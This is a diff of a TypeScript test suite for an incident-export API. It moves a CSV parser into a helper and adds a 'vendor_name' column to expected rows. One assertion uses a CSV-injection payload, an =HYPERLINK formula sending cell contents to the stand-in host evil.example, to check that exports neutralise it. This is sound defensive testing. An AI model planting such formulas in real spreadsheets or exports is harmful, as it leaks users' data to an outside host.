@@ -7,6 +7,7 @@ import type { Store } from "../store/store.ts";
 import { createApp } from "./app.ts";
 import { openIncidentExport } from "./incident-export.ts";
 import { parseOutageFilter } from "./outage-query.ts";
+import { parseCsv } from "../../test/helpers/parse-csv.ts";
 import { openIsolatedPgStore, pgRun } from "../../test/helpers/postgres.ts";
 import { makeIncident, NOW, seedRecord } from "../../test/helpers/seed-record.ts";
 
@@ -25,43 +26,6 @@ const HOSTILE = makeIncident({
     { id: "e2", name: "@api", worstStatus: "partial_outage" },
   ],
 });
-
-/** Reads RFC 4180 text back into records (quoted fields, doubled quotes, CRLF between records). */
-function parseCsv(text: string): string[][] {
-  const records: string[][] = [];
-  let fields: string[] = [];
-  let field = "";
-  let i = 0;
-  while (i < text.length) {
-    if (text[i] === '"') {
-      // Inside quotes, quotes come in pairs until the closing one.
-      const end =
-        i +
-        1 +
-        text
-          .slice(i + 1)
-          .replaceAll('""', "\0\0")
-          .indexOf('"');
-      field = text.slice(i + 1, end).replaceAll('""', '"');
-      i = end + 1;
-    } else if (text.startsWith(",", i)) {
-      fields.push(field);
-      field = "";
-      i++;
-    } else if (text.startsWith("\r\n", i)) {
-      records.push([...fields, field]);
-      fields = [];
-      field = "";
-      i += 2;
-    } else {
-      const stop = text.slice(i).search(/,|\r\n/);
-      field = stop === -1 ? text.slice(i) : text.slice(i, i + stop);
-      i = stop === -1 ? text.length : i + stop;
-    }
-  }
-  expect(fields, "the text ends with CRLF").toEqual([]);
-  return records;
-}
 
 type IncidentPage = { incidents: { id: string }[] };
 
@@ -120,6 +84,7 @@ describe.each(STORES)("GET /api/v1/incidents?format= on %s", (_name, open) => {
     const outage = rows.find((r) => r.id === "acme-outage");
     expect(outage).toEqual({
       vendor: "acme",
+      vendor_name: "Acme",
       id: "acme-outage",
       kind: "incident",
       title: "API errors <b>& timeouts",
@@ -140,6 +105,7 @@ describe.each(STORES)("GET /api/v1/incidents?format= on %s", (_name, open) => {
     const [header, ...records] = parseCsv(text);
     expect(header).toEqual([
       "vendor",
+      "vendor_name",
       "id",
       "kind",
       "title",
@@ -152,11 +118,12 @@ describe.each(STORES)("GET /api/v1/incidents?format= on %s", (_name, open) => {
       "detection_lag_seconds",
       "url",
     ]);
-    expect(records.map((r) => r[1])).toEqual((await pageJson("")).map((i) => i.id));
-    expect(records.every((r) => r.length === 12)).toBe(true);
-    const evil = records.find((r) => r[1] === "evil-1")!;
+    expect(records.map((r) => r[2])).toEqual((await pageJson("")).map((i) => i.id));
+    expect(records.every((r) => r.length === 13)).toBe(true);
+    const evil = records.find((r) => r[2] === "evil-1")!;
     expect(evil).toEqual([
       "evil",
+      "Evil",
       "evil-1",
       "incident",
       `'${HOSTILE_TITLE}`,
@@ -172,8 +139,8 @@ describe.each(STORES)("GET /api/v1/incidents?format= on %s", (_name, open) => {
     expect(text).toContain(
       `"'=HYPERLINK(""http://evil.example/?q=""&A1,""Click"")\r\nsecond ""line"", here"`,
     );
-    const open = records.find((r) => r[1] === "quiet-down")!;
-    expect([open[7], open[8]]).toEqual(["", ""]); // not resolved: no end, no duration
+    const open = records.find((r) => r[2] === "quiet-down")!;
+    expect([open[1], open[8], open[9]]).toEqual(["Quiet Co", "", ""]); // not resolved: no end, no duration
   });
 
   it.each([
@@ -187,7 +154,7 @@ describe.each(STORES)("GET /api/v1/incidents?format= on %s", (_name, open) => {
   ])("applies the list's filters %s", async (query, ids) => {
     expect((await jsonl(query)).map((r) => r.id)).toEqual(ids);
     const records = parseCsv(await csv(query));
-    expect(records.slice(1).map((r) => r[1])).toEqual(ids);
+    expect(records.slice(1).map((r) => r[2])).toEqual(ids);
     expect(records[0]![0]).toBe("vendor"); // an empty export still has its header
   });
 
@@ -224,6 +191,6 @@ describe.each(STORES)("GET /api/v1/incidents?format= on %s", (_name, open) => {
     expect(pieces.join("")).toBe(whole.join(""));
     expect([all.written(), paged.written()]).toEqual([27, 27]);
     const outage = (await store.getIncident("acme-outage"))!;
-    expect(whole.join("")).toContain(JSON.stringify(incidentExportRow(outage)) + "\n");
+    expect(whole.join("")).toContain(JSON.stringify(incidentExportRow(outage, "Acme")) + "\n");
   });
 });
